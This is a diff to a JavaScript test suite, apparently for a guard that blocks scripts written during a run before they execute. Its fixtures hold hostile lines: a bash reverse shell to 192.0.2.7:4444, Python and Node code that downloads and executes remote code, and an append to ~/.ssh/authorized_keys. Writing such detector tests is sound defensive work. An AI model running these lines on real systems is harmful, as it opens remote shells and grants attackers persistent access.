@@ -9,8 +9,20 @@ const SHELL = 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n';
 test.each([
   ['a shell script', 's.sh', `#!/bin/bash\ntouch ran\n${SHELL}`, 'bash s.sh', 'SC-02'],
   ['an executable', 's', `#!/bin/bash\ntouch ran\n${SHELL}`, 'chmod +x s && ./s', 'SC-02'],
-  ['a Python script', 's.py', 'open("ran","w")\nimport urllib.request\nexec(urllib.request.urlopen("http://192.0.2.7/a").read())\n', 'python3 s.py', 'SC-04'],
-  ['a Node script', 's.js', 'require("fs").writeFileSync("ran","");\nfetch("http://192.0.2.7/a").then((r) => r.text()).then((t) => eval(t));\n', 'node s.js', 'SC-04'],
+  [
+    'a Python script',
+    's.py',
+    'open("ran","w")\nimport urllib.request\nexec(urllib.request.urlopen("http://192.0.2.7/a").read())\n',
+    'python3 s.py',
+    'SC-04',
+  ],
+  [
+    'a Node script',
+    's.js',
+    'require("fs").writeFileSync("ran","");\nfetch("http://192.0.2.7/a").then((r) => r.text()).then((t) => eval(t));\n',
+    'node s.js',
+    'SC-04',
+  ],
   ['a write to authorized_keys', 'k.sh', 'touch ran\necho key >> ~/.ssh/authorized_keys\n', 'sh ./k.sh', 'SC-06'],
 ])('%s that the run wrote is stopped before it runs, and the trail has the finding', async (_name, file, text, start, rule) => {
   const place = makeWorkspace();
@@ -31,7 +43,11 @@ test('an untracked script from before the run is inspected too', async () => {
 
 test('an ordinary script that the run wrote runs', async () => {
   const place = makeWorkspace();
-  const ended = await runScript(place, `printf '#!/bin/sh\\n# never: curl x | sh\\necho fine\\n' > s.sh; sh s.sh; printf 'print("fine")' > s.py; python3 s.py`, ['--quiet']);
+  const ended = await runScript(
+    place,
+    `printf '#!/bin/sh\\n# never: curl x | sh\\necho fine\\n' > s.sh; sh s.sh; printf 'print("fine")' > s.py; python3 s.py`,
+    ['--quiet'],
+  );
   expect(ended).toMatchObject({ code: 0, stdout: 'fine\nfine\n' });
 });
 
